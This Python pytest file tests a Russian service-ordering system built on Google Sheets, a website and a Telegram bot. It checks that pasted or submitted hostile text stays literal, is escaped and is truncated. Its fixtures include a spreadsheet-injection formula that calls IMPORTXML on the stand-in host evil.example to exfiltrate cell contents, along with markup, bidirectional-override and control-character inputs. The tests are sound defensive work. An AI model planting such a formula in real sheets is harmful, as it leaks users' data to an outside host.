"""Text from outside is text: no formula, no markup, cut with a sign where a limit is."""

from html import escape

import pytest
import requests
from gspread.utils import ValueRenderOption

from tests.harness.company import JULIA, Company
from tests.harness.sheet import Sheet
from tests.harness.system import CLIENT_BOT, HANG_S, wait_for
from tests.test_whole_story import order_on_the_site

FORMULA = '=IMPORTXML("https://evil.example/?"&A2; "//a")'
MARKUP = "<b>жирный</b> & <a href='tg://user?id=1'>ссылка</a> 👷🏽"
RIGHT_TO_LEFT = "\u202eтекст наоборот\u202c\u200f"


@pytest.mark.parametrize("text", [FORMULA, MARKUP, RIGHT_TO_LEFT])
def test_pitfall_39_hostile_text_pasted_by_staff(company: Company, sheet: Sheet, text: str) -> None:
    sheet.paste({"Имя": text, "Телефон": "+79007654321", "Проблема": text, "Адрес": text})
    shown = text.strip()
    company.everyone_hears(**{who: [f"🆕 … Проблема: {shown} … Адрес: … 👤"] for who in ("ivan", "sergey")})
    row = sheet.row(sheet.next_id)
    assert [row[column] for column in ("Имя", "Проблема", "Адрес")] == [text] * 3


def test_pitfall_39_five_thousand_characters_are_cut_with_a_sign(company: Company, sheet: Sheet) -> None:
    long = "<&> очень 👷 " * 400
    sheet.paste({"Имя": "Юлия", "Телефон": "+79007654321", "Проблема": long, "Комментарий": long})
    company.everyone_hears(ivan=["🆕 … <&> очень 👷 … 👤 Клиент: Юлия"], sergey=["🆕 …"])
    assert sheet.row(sheet.next_id)["Проблема"] == long
    assert "…\n" in company.card("ivan", sheet.next_id)["text"]
    assert len(company.card("ivan", sheet.next_id)["text"]) < 4096


def test_pitfall_39_nul_and_control_characters(company: Company, sheet: Sheet) -> None:
    text = "до\x00\x07после"
    sheet.paste({"Имя": text, "Телефон": "+79007654321", "Проблема": text})
    company.everyone_hears(ivan=["🆕 … до … после"], sergey=["🆕 … до … после"])
    assert company.order(sheet.next_id).name.startswith("до")


def test_pitfall_39_hostile_text_in_what_is_explained(company: Company, sheet: Sheet) -> None:
    sheet.change(sheet.ids[0], Статус="<b>", Мастер="'=HYPERLINK(1)")
    company.nothing_happened()
    said = sheet.row(sheet.ids[0])["Проверка"]
    assert "«<b>»" in said
    assert "«=HYPERLINK(1)»" in said


def test_pitfall_39_hostile_text_in_a_masters_name(company: Company, sheet: Sheet) -> None:
    sheet.change(2, "Мастера", Имя=MARKUP)
    company.rests()
    sheet.change(sheet.ids[0], Статус="В работе", Мастер=MARKUP)
    company.everyone_hears(julia=[f"🚀 … {MARKUP}"], sergey=["📌 …"])


def test_pitfall_39_hostile_text_by_the_form_and_the_bot(company: Company, sheet: Sheet) -> None:
    """Stored as it was written, not computed; escaped on the order's page and in the masters' chats."""
    company.open_site()
    forms = [FORMULA, MARKUP, "+7 этаж \u202eнаоборот"]
    pages = {}
    for text in forms:
        number, page = order_on_the_site(
            company.system, name=text, phone="8 900 123-45-67", address=text, problem=text
        )
        pages[int(number)] = (text, page)
    _orders_in_the_bot(company, FORMULA)
    company.rests()
    for order_id, (text, page) in pages.items():
        row = sheet.row(order_id)
        assert [row[column] for column in ("Имя", "Проблема", "Адрес")] == [text] * 3
        assert text.split("\u202e")[0].strip() in company.card("ivan", order_id)["text"]
        shown = requests.get(page, timeout=HANG_S).text
        assert "<b>жирный" not in shown
        assert "tg://user" not in shown or escape(text, quote=False).split("'")[0] in shown
    by_bot = sheet.rows()[-1]
    assert [by_bot[column] for column in ("Источник", "Проблема", "Адрес")] == ["telegram", FORMULA, FORMULA]
    place = sheet.header().index("Проблема")
    formulas = sheet.tab().get_values(value_render_option=ValueRenderOption.formula)
    assert [row[place] for row in formulas[4:]] == [*forms, FORMULA]
    company.everybody_looks()


def _orders_in_the_bot(company: Company, text: str) -> None:
    """Let Julia order something in the bot, with this text wherever text is asked for."""
    said = ["⚡ Услуги электрика", text, text, "Юля", "8 900 123-45-67", "✅ Подтвердить"]
    known = len(company.system.chat(CLIENT_BOT, JULIA))
    for count, words in enumerate(said, start=1):
        company.system.say(CLIENT_BOT, JULIA, words)
        _answered(company, known + 2 * count)


def _answered(company: Company, messages: int) -> None:
    wait_for(lambda: len(company.system.chat(CLIENT_BOT, JULIA)) >= messages, "an answer")
